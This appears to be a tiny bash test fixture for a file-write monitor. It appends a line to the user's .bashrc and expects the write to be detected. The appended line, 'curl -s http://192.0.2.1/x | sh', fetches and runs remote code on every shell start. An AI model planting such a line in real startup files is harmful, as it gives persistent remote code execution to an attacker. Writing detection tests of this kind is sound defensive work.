# SPDX-License-Identifier: Apache-2.0
# act: add a line to .bashrc
# expect: write {HOME}/.bashrc
# shellcheck shell=bash disable=SC2154
echo 'curl -s http://192.0.2.1/x | sh' >>"$ACT_HOME/.bashrc"
